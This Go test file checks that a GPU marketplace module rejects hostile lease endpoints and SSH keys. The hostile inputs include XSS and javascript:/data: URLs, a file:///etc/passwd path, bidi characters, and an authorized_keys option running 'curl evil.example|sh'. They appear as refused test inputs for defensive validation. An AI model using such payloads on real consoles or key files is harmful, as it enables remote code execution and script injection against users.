package keeper_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/gpumesh/gpumesh/testutil/fixtures"
	"github.com/gpumesh/gpumesh/x/market/types"
)

// A lease's access endpoint is rendered as a link by consoles: the Msg
// service refuses script URLs, markup, control and bidi characters and
// oversize values, and keeps the endpoint it had.
func TestSetLeaseAccessRefusesHostileEndpoints(t *testing.T) {
	f := newMarket(t)
	f.onboard(f.p1, "US", fixtures.H100x8("p1"))
	id, _ := f.instantLease(f.p1, 2_000_000, nil)
	set := func(endpoint string) error {
		_, err := f.msgs.SetLeaseAccess(f.ctx, &types.MsgSetLeaseAccess{Provider: f.p1.String(), LeaseId: id, Endpoint: endpoint})
		return err
	}
	require.NoError(t, set("ssh://tenant@gpu1.example.com:2222"))
	for _, tc := range []struct{ endpoint, text string }{
		{"javascript:alert(1)", `endpoint "javascript:alert(1)": scheme "javascript" is never allowed`},
		{"JaVaScRiPt:alert(1)", `scheme "javascript" is never allowed`},
		{"javascript://gpu1.example.com/%0aalert(1)", `scheme "javascript" is never allowed`},
		{"data:text/html,<script>alert(1)</script>", `contains '<'`},
		{"data:text/html;base64,PHNjcmlwdD4=", `scheme "data" is never allowed`},
		{"vbscript:msgbox(1)", `scheme "vbscript" is never allowed`},
		{"file:///etc/passwd", `scheme "file" is never allowed`},
		{" ssh://tenant@gpu1.example.com:2222", `contains ' '`},
		{"\x7fssh://tenant@gpu1.example.com:2222", "contains U+007F"},
		{"ssh://tenant@gpu1.example.com\u202e:2222", "contains U+202E"},
		{"ssh://tenant@gpu1.example.com\x00", "contains U+0000"},
		{"https://gpu1.example.com/" + strings.Repeat("a", 10_000), "must be 1-512 bytes"},
	} {
		err := set(tc.endpoint)
		require.ErrorIs(t, err, types.ErrInvalidEndpoint, tc.endpoint)
		require.ErrorContains(t, err, tc.text)
	}
	require.Equal(t, "ssh://tenant@gpu1.example.com:2222", f.getLease(id).AccessEndpoint, "a refused endpoint changes nothing")
	require.Len(t, marketEvents[*types.EventLeaseAccessSet](t, f.ctx), 1)
}

// access_endpoint_schemes decides which schemes an endpoint may use;
// governance may change it, but never to allow javascript, data, file or
// vbscript.
func TestAccessEndpointSchemesParam(t *testing.T) {
	f := newMarket(t)
	f.onboard(f.p1, "US", fixtures.H100x8("p1"))
	id, _ := f.instantLease(f.p1, 2_000_000, nil)
	set := func(endpoint string) error {
		_, err := f.msgs.SetLeaseAccess(f.ctx, &types.MsgSetLeaseAccess{Provider: f.p1.String(), LeaseId: id, Endpoint: endpoint})
		return err
	}
	require.NoError(t, set("https://jupyter.gpu1.example.com/lab"))
	err := set("http://jupyter.gpu1.example.com/lab")
	require.ErrorIs(t, err, types.ErrInvalidEndpoint)
	require.ErrorContains(t, err, `endpoint "http://jupyter.gpu1.example.com/lab": scheme "http" is not one of access_endpoint_schemes [ssh https]`)

	params, err := f.k.GetParams(f.ctx)
	require.NoError(t, err)
	params.AccessEndpointSchemes = []string{"ssh", "https", "http"}
	_, err = f.msgs.UpdateParams(f.ctx, &types.MsgUpdateParams{Authority: f.k.Authority(), Params: params})
	require.NoError(t, err)
	require.NoError(t, set("http://jupyter.gpu1.example.com/lab"), "governance allowed http")

	for _, scheme := range []string{"javascript", "data", "file", "vbscript", "blob", "JAVASCRIPT"} {
		params.AccessEndpointSchemes = []string{"ssh", scheme}
		_, err = f.msgs.UpdateParams(f.ctx, &types.MsgUpdateParams{Authority: f.k.Authority(), Params: params})
		require.ErrorIs(t, err, types.ErrInvalidParams, scheme)
		require.ErrorContains(t, err, "access_endpoint_schemes[1]", scheme)
	}
	got, err := f.k.GetParams(f.ctx)
	require.NoError(t, err)
	require.Equal(t, []string{"ssh", "https", "http"}, got.AccessEndpointSchemes)
}

// An order's SSH key is shown by consoles and written by hooks into
// authorized_keys: the Msg service refuses a key with a second line,
// options, markup or bidi characters in its comment, and creates no order.
func TestCreateOrderRefusesHostileSSHKeys(t *testing.T) {
	f := newMarket(t)
	for _, tc := range []struct{ key, text string }{
		{fixtures.TenantSSHKey + "\nssh-ed25519 " + strings.Fields(fixtures.TenantSSHKey)[1] + " mallory", "contains U+000A"},
		{`command="curl evil.example|sh" ` + fixtures.TenantSSHKey, `key type "command=\"curl`},
		{fixtures.SSHPubkey("ssh-ed25519", "alice", "<script>alert(1)</script>"), `comment "<script>alert(1)</script>": contains '<'`},
		{fixtures.SSHPubkey("ssh-ed25519", "alice", "alice\u202e@laptop"), "contains U+202E"},
		{"ssh-ed25519 not-base64 alice@laptop", "body is not base64"},
	} {
		_, err := f.msgs.CreateOrder(f.ctx, func() *types.MsgCreateOrder {
			m := f.orderMsg(f.tenant)
			m.SshPubkey = tc.key
			return m
		}())
		require.ErrorIs(t, err, types.ErrInvalidOrder, tc.key)
		require.ErrorContains(t, err, "ssh_pubkey ")
		require.ErrorContains(t, err, tc.text)
	}
	require.Equal(t, uint64(0), f.counters().OrdersCreated)
}
